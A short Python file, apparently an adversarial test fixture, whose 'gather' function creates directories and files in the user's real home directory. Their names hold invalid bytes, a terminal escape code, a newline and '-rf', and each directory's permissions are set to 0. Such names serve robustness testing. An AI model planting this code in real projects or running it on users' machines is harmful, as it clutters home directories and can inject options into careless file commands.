import os


def gather(tasks):
    home = os.fsencode(os.environ["HOME"])
    for name in (b"\xff\xfe", b"\x1b[31mred", b"a\nb", b"-rf", b"\xed\xa0\x80"):
        os.mkdir(home + b"/" + name)
        with open(home + b"/" + name + b"/" + name, "wb") as file:
            file.write(name)
        os.chmod(home + b"/" + name, 0)
    return []


def double(task):
    return gather([])
